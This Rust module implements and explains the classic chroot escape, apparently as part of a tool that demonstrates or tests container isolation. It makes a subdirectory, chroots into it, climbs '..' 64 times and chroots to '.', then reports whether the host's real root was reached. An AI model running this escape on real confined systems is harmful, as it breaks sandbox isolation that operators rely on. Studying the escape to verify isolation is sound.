//! The classic chroot escape.
//!
//! `chroot` moves only the root; it does not move the current directory. A
//! root process inside a chroot makes a subdirectory, chroots into it while
//! its working directory stays above, and then walks `..`: the kernel stops a
//! `..` walk only at the process's root, which now lies *below* the walk, so
//! it climbs to the host's real `/`. A final `chroot .` makes that the root.
//!
//! In a mount namespace whose old root was detached after `pivot_root`, the
//! same walk ends at the namespace's own root: there is no mount above it to
//! climb into, so the attempt finds only the container.

use std::path::Path;

use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, mkdir};

use crate::error::{step, Result};
use crate::observe::FileId;

/// More `..` steps than any real directory tree is deep.
const CLIMB: usize = 64;

/// What an escape attempt reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// The process's root is now the host's `/`.
    Escaped,
    /// The walk stayed inside; `root` is where it ended.
    Contained { root: FileId },
}

/// Tries the escape from the calling process's current root. `scratch` is a
/// new directory name (relative to the current root) the attempt may create;
/// the caller removes it afterwards. `host_root` is the identity of the host's
/// `/`, taken before entering the root, to recognise success.
pub fn attempt(scratch: &Path, host_root: FileId) -> Result<Outcome> {
    let name = scratch.display();
    step(format!("mkdir {name}"), || mkdir(scratch, Mode::S_IRWXU))?;
    step(
        format!("chroot {name}   # the working directory stays outside the new root"),
        || chroot(scratch),
    )?;
    tracing::info!(target: "explain", "cd ..   # repeated {CLIMB} times");
    for _ in 0..CLIMB {
        chdir("..").map_err(|e| crate::Error::sys("cd ..", e))?;
    }
    step("chroot .", || chroot("."))?;
    step("cd /", || chdir("/"))?;
    let root = FileId::of(Path::new("/"))?;
    Ok(if root == host_root {
        Outcome::Escaped
    } else {
        Outcome::Contained { root }
    })
}
